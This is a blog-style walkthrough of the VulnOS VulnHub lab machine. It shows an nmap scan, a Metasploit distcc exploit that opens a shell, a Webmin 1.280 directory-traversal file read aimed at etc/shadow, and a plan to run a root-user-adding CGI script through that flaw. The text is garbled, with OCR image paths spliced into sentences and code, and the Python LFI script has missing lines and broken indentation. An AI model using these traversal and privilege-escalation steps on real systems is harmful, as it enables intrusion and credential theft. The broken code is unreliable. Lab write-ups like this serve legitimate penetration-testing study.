Sunday, 23 October 2016

VulnOS Solution

Hello Friends
This solution belongs to VulnOs VM from vulnhub. Hope you'll enjoy it.

So we start with basic nmap scan:-

22/tcp    open  ssh         OpenSSH 5.3p1 Debian 3ubuntu7 (Ubuntu Linux; protocol 2.0)
23/tcp    open  telnet      Linux telnetd
25/tcp    open  smtp        Postfix smtpd
53/tcp    open  domain      ISC BIND 9.7.0-P1
80/tcp    open  http        Apache httpd 2.2.14 ((Ubuntu))
110/tcp   open  pop3        Dovecot pop3d
111/tcp   open  rpcbind     2 (RPC #100000)
139/tcp   open  netbios-ssn Samba smbd 3.X (workgroup: WORKGROUP)
143/tcp   open  imap        Dovecot imapd
389/tcp   open  ldap        OpenLDAP 2.2.X - 2.3.X
445/tcp   open  netbios-ssn Samba smbd 3.X (workgroup: WORKGROUP)
512/tcp   open  exec        netkit-rsh rexecd
513/tcp   open  login?
514/tcp   open  tcpwrapped
901/tcp   open  http        Samba SWAT administration server
993/tcp   open  ssl/imap    Dovecot imapd
995/tcp   open  ssl/pop3    Dovecot pop3d
2000/tcp  open  sieve       Dovecot timsieved
2049/tcp  open  nfs         2-4 (RPC #100003)
3306/tcp  open  mysql       MySQL 5.1.73-0ubuntu0.10.04.1
3632/tcp  open  distccd     distccd v1 ((Ubuntu 4.4.3-4ubuntu5.1) 4.4.3)
6667/tcp  open  irc         IRCnet ircd
8070/tcp  open  unknown
8080/tcp  open  http        Apache Tomcat/Coyote JSP engine 1.1
10000/tcp open  http        MiniServ 0.01 (Webmin httpd)
41120/tcp open  nlockmgr    1-4 (RPC #100021)
48389/tcp open  status      1 (RPC #100024)59544/tcp open  mountd      1-3 (RPC #100005)
  After spending enough time around the services and trying to exploit them I got success in exploiting "distccd" service hosted on port 3632.

Searching the exploit for this service brings us to a meatsploit exploit- exploit/unix/misc/distcc_exec

Set up the RHOST IP address and fire up the exploit.

msf exploit(distcc_exec) > exploit

[*] Started reverse double handler
[*] Accepted the first client connection...
[*] Accepted the second client connection...
[*] Command: echo NsD30rklVB230mY4;
[*] Writing to socket A
[*] Writing to socket B
[*] Reading from sockets...
[*] Reading from socket B
[*] B: "NsD30rklVB230mY4\r\n"
[*] Matching...
[*] A is input...
[*] Command shell session 5 opened ( -> at 2016-10-23 17:45:45 +0530not a tty

The terminal is not a tty so make it just for eye-candy sake:-

python -c 'import pty;pty.spawn("/bin/sh");'
$ tty

Dirbuster had given a handful amount of results, but that didn't feel necessary to be used except one hint (cgi-bin).

Browsing through the files in /var/wwwfollowing applications are found hosted, pretty large number.

$ ls /var/www/
DVWA-1.0.8           imgs        mutillidae        redmine-0.9.6
Hackademic_Challenges[EN]  index.html    openclinictikiwiki-1.7.9
dolibarr-3.0.0           index2.html    phpsysinfo        webERP
egroupware           insecure    postfixadmin-2.3.1  webmin-1.280
There is webmin application, everyone is very fond of it ;)  So lets find what privileges does it hold?

$ ps aux | grep webmin
root      1892  0.0  0.9   6736  4676 ?        Ss   10:28   0:00 /usr/bin/perl /var/www/webmin-1.280
  Excellent, so now we know that webmin can be used for rooting purpose.

Lets browse through cgi-bin files.

$ cd /usr/lib/cgi-bin
$ ls
nagios3  php  php5
Lets check the permissions for cgi-bin

ls -l ../ | grep cgi-bindrwxrwxrwx  3 root root       4096 Oct 23 11:05 cgi-bin
 777 permissions are a very rewarding permissions.

Now create a cgi script to add a root user-

So here we try to create a user "superb" with password "superbpass" as a super  user with this script. Just make sure that this script has executable permissions.
 Now all we need is run this script through root user. So, we search for webmin-1.280 exploits. Metasploit has exploit.

msf > search webmin

Matching Modules

   Name                                         Disclosure Date  Rank       Description
   ----                                         ---  ----       ---
   auxiliary/admin/webmin/edit_html_fileaccess  2012-09-06       normal     Webmin edit_html.cgi file Parameter Traversal Arbitrary File Access
   auxiliary/admin/webmin/file_disclosure       2006-06-30       normal     Webmin File Disclosure
   exploit/unix/webapp/webmin_show_cgi_exec     2012-09-06       excellent  Webmin /file/show.cgi Remote Command Execution
But I didn't want to depend on metasploit once again. So I look through the exploit's code.

def run
    print_status("Attempting to retrieve #{datastore['RPATH']}...")

    dir = normalize_uri(datastore['DIR'])
    uri = Rex::Text.uri_encode(dir) + "/..%01" * 40 + Rex::Text.uri_encode(datastore['RPATH'])

The variable "dir" has the value "unauthenticated" and exploit uses 40 in number directory traversals to get the file specified in "RPATH". So, lets check when does webmin break. I created a python script to check for LFI. BTW there is a perl exploit too for this.

 Well the "re" module didn't get used in the script.Here I iterate through a loop starting from 1 to 50 for directory traversal using "..%01/"
And guess what, webmin broke at 4th iteration. HellSo, we can use this script to execute our cgi script.
Make necessary changes in webmin's file path. We need to run shell.cgi file located in /usr/lib/cgi-bin directory.

Now run the script.

Since I knew that script gets the job done in 4 iterations itself, so I didn't wait for more than that. Now time to check the passwd file.

Superb :)  so "superb" is now a new user. Lets switch to it.

Hahaha, Game Over buddy.
There are lot many other vulnerabilities too, like phpmyadmin (guessable password), DVWA etc... You can hit them one by one.

Hope you guys enjoyed the show ;)

EDIT: Below is the more modified LFI script which will try to read other possible important filestoo. If you know of any other important files that are not included here, plz post thenames.

import urllib2,time
#address = ""+"..%01/"*i+"etc/shadow"    #FOR WEBMIN
#address = ""+"..%01/"*i+"usr/lib/cgi-bin/shell.cgi" #FOR WEBMIN
def connect():
    for i in range(0,50,1):
        iterate = "../"*i
            iterate = "/"
        print "***** URL= ",url,"\n"
        print "[+][+] ",url
            res = urllib2.urlopen(url).read()
            if ("/bin/" in res):
                #if ("root" in res):
                #if (":" in res):
                print "\n[+][+] Passwd file found at ",i," iteration\n"
                raw_input("Press Enter...")
                print res
                choice=raw_input("\n[+][+] Do you want to look into other standard files? Press 'y'  ..")
                if(choice=='y' or choice=='Y'):
                    for item in testers:
                        url = address+ iterate + item
                        print url
                        res = urllib2.urlopen(url).read()
                        printres
                        raw_input("\n[+][+]Press enter...\n")
                    print "You didn't press 'y' or 'Y'. Exiting the script...GoodBye\n"
        except Exception, err:
            print "Exception occured, continuing.."
        print"[+][+] LOOP NUMBER- ",i